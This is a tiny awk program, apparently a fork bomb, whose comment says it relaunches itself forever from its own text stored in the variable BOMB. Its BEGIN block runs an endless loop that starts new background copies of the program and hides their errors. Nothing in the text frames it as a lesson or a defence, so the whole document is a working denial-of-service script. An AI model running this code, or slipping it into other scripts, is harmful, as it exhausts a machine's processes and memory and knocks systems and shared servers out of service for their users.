# Starts itself, forever. It needs its own text in the variable BOMB.
BEGIN { while (1) system("awk \"$BOMB\" 2>/dev/null &") }
